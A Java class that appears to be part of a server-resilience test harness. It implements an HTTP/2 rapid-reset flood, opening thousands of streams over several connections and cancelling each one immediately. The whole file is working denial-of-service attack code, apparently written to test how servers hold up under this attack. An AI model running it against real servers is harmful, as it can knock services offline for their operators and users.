package dev.leantokens.attacks;

import java.io.OutputStream;

import dev.leantokens.testing.RawHttp;

/** Opens HTTP/2 streams and cancels each at once. */
final class CancelledStreams implements Attack {

    private static final int CONNECTIONS = 4;
    private static final int STREAMS = 5_000;

    @Override
    public void start(Attacker attacker) {
        attacker.keepTalking(CONNECTIONS, RawHttp.ELSEWHERE, attacker.target().port(), socket -> {
            OutputStream out = socket.getOutputStream();
            out.write(Http2Frames.PREFACE);
            out.write(Http2Frames.initialWindowSize(65_535));
            for (int i = 0; i < STREAMS; i++) {
                out.write(Http2Frames.get(2 * i + 1, "/q/metrics"));
                out.write(Http2Frames.cancel(2 * i + 1));
                attacker.outcomes().sent(1);
            }
            socket.getInputStream().readAllBytes();
            attacker.outcomes().got("closed");
        });
    }
}
